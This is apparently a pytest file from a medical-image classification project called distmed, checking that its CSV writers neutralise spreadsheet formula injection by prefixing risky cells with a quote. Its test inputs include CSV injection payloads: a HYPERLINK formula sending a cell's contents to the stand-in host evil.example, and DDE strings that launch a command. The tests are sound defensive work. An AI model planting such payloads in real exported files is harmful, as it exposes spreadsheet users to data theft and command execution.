"""What distmed writes is safe to open: CSV cells never run as spreadsheet formulas (issue
37 item 4, OWASP "CSV Injection"). Every CSV is read back as a spreadsheet would see it. No Ray.
"""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pytest
import torch
from conftest import saved_record
from PIL import Image

from distmed import predict
from distmed.artifacts import csv_cell
from distmed.model import build_model
from distmed.results import TrialRow, write_trials_csv

SIZE = 16
# Names a user may give (a folder, a file), each starting with a formula trigger.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(newline="") as handle:
        return list(csv.DictReader(handle))


def _is_formula(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_cell_that_starts_a_formula_is_prefixed_with_a_quote(text: str):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-0.5, -3, 0.25, float("nan"), float("-inf"), "-0.5", "+3"])
def test_numbers_stay_numbers(value):
    assert csv_cell(value) is value  # a number is read as a number, never run


def test_trials_csv_neutralises_text_and_keeps_negative_numbers(tmp_path: Path):
    rows = [
        TrialRow(
            trial_id="t1",
            status="errored",
            params={"optim.name": HOSTILE[0], "model.bias": -0.5},
            cv_roc_auc=float("nan"),
            cv_roc_auc_std=float("nan"),
            cv_roc_auc_se=float("nan"),
            fold_aucs=[],
            fold_epochs=[],
            epochs_reported=0,
            time_s=1.0,
            error=HOSTILE[3],
        )
    ]
    write_trials_csv(tmp_path / "trials.csv", rows, ["optim.name", "model.bias"])
    (record,) = _read(tmp_path / "trials.csv")
    assert record["optim.name"] == "'" + HOSTILE[0]
    assert record["error"] == "'" + HOSTILE[3]
    assert float(record["model.bias"]) == -0.5  # still a number in the spreadsheet
    assert not any(_is_formula(cell) for cell in record.values() if cell != "-0.5")


def test_predict_csv_neutralises_class_and_file_names(tmp_path: Path):
    classes = [HOSTILE[0], HOSTILE[1]]
    saved = saved_record(SIZE, classes)
    model = tmp_path / "best_model.pt"
    torch.manual_seed(0)
    saved.save(model, build_model(saved.config.model, 2).state_dict())
    images = tmp_path / "images"
    images.mkdir()
    names = ["-2+3.png", "@cmd.png", "=1+1.png"]
    for k, name in enumerate(names):
        pixels = np.full((SIZE, SIZE), 40 * k, dtype=np.uint8)
        Image.fromarray(pixels).save(images / name)
    (images / "=broken.png").write_bytes(b"not an image")  # an error row names it too
    out = tmp_path / "p.csv"
    code = predict.main(["--model", str(model), str(images), "--output", str(out)])
    assert code == 3  # some files unreadable (named in the CSV), the rest scored
    records = _read(out)
    assert len(records) == 4
    for record in records:
        for key, cell in record.items():
            assert not _is_formula(cell), (key, cell)
            assert not _is_formula(key), key
    by_file = {Path(r["path"].lstrip("'")).name: r for r in records}
    assert set(by_file) == {*names, "=broken.png"}
    scored = by_file["-2+3.png"]
    assert scored["predicted_class"] in {"'" + c for c in classes}
    probs = [float(scored[f"prob_{c}"]) for c in classes]
    assert sum(probs) == pytest.approx(1.0, abs=1e-5)
    assert by_file["=broken.png"]["error"]
